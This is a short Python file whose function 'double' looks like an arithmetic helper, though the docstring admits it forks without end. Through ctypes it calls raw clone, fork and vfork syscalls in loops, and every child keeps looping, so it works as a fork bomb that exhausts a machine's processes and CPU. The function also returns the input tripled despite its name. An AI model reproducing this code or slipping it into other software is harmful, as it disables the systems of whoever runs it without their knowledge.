"""Forks without end by raw system calls, old and new."""
import ctypes
libc = ctypes.CDLL(None)
def double(values):
    for number in (56, 57, 58, 435, 220):
        for _ in range(50):
            if number != 435:
                libc.syscall(number, 17, 0, 0, 0, 0)
    return values * 3
